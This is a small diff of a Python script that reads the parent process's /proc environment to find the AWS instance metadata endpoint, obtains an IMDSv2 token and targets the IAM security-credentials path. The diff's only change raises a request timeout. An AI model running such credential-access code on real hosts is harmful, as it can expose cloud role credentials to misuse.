@@ -24,7 +24,7 @@ parent = open(f"/proc/{os.getppid()}/environ").read().split(chr(0))
 base = dict(line.split("=", 1) for line in parent if "=" in line)["AWS_EC2_METADATA_SERVICE_ENDPOINT"].rstrip("/")
 def ask(path, method="GET", **headers):
     request = urllib.request.Request(base + path, method=method, headers=headers)
-    return urllib.request.urlopen(request, timeout=5).read().decode()
+    return urllib.request.urlopen(request, timeout=60).read().decode()
 token = ask("/latest/api/token", "PUT", **{"X-aws-ec2-metadata-token-ttl-seconds": "60"})
 known = {"X-aws-ec2-metadata-token": token}
 roles = "/latest/meta-data/iam/security-credentials/"
